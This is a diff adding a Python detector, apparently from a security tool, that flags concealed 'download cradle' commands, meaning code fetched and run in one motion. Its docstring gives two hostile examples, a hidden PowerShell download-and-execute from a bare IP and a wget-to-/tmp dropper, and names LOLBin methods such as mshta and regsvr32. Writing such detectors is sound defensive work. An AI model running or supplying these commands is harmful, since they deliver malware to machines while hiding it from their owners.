@@ -1,0 +1,57 @@
+"""OUT-DOWNLOAD-CRADLE: code fetched and run in one motion, hidden or from a bare address.
+
+What it catches
+    A download whose content is executed (piped to a shell or `iex`, `exec`/`eval` of the
+    response, or a saved file that is then run or made executable) when the motion is hidden
+    or comes from somewhere no ordinary installer lives: a hidden window or background
+    process, a dot-file in `/tmp` or `/dev/shm`, a bare IP address as the source, TLS checks
+    turned off, or a Windows tool made for something else doing the download (`certutil
+    -urlcache`, `bitsadmin /transfer`). Also a system binary told to run a remote script
+    directly (`mshta http://...`, `regsvr32 /i:http://... scrobj.dll`, `rundll32 javascript:`).
+
+Why it is a redline (RL-MALWARE)
+    This is the dropper's and loader's delivery step: it puts someone else's code to work on
+    the machine while keeping it from the person and the tools watching (ATT&CK T1105,
+    T1218).
+
+Example
+    `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"`
+    `wget -q http://203.0.113.5/m -O /tmp/.m && chmod +x /tmp/.m && nohup /tmp/.m &`
+
+Allowed instead
+    Ordinary developer installs stay allowed, including the documented `curl | sh` ones: an
+    installer fetched over HTTPS from a named host and run in the open
+    (`curl -sSf https://sh.rustup.rs | sh`, `irm get.scoop.sh | iex`, Chocolatey's
+    `iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/...'))`,
+    `curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh`). Whether that
+    host deserves trust is the user's decision; hiding the motion or fetching code from a bare
+    address is what no installer needs. Package managers, `pip install`, downloading a release
+    archive and checking its hash are allowed too.
+"""
+
+from __future__ import annotations
+
+from redline.redlines.capabilities import Capabilities
+from redline.redlines.capabilities import Capability as Cap
+from redline.redlines.registry import Detection, detector, supported
+
+_CONCEALMENT = (Cap.HIDE, Cap.UNVETTED_SOURCE, Cap.LOLBIN_DOWNLOAD, Cap.ENCODED_POWERSHELL)
+
+
+@detector("OUT-DOWNLOAD-CRADLE", redline="RL-MALWARE")
+def download_cradle(found: Capabilities) -> Detection | None:
+    """Remote script run by a system binary, or download-and-run + concealment nearby."""
+    if Cap.REMOTE_SCRIPT_EXEC in found:
+        return supported(found, 0.85, (Cap.REMOTE_SCRIPT_EXEC,), Cap.REMOTE_SCRIPT_EXEC.value)
+    if Cap.RUN_DOWNLOADED not in found:
+        return None
+    reach = 10_000 if found.kind == "action" else 400
+    concealment = [
+        c for c in _CONCEALMENT if c in found and found.near(Cap.RUN_DOWNLOADED, c, reach)
+    ]
+    if concealment:
+        core = (Cap.RUN_DOWNLOADED, *concealment)
+        return supported(found, 0.85, core, "downloads and runs code, concealed")
+    return supported(
+        found, 0.4, (Cap.RUN_DOWNLOADED,), "downloads and runs code in the open, as installers do"
+    )
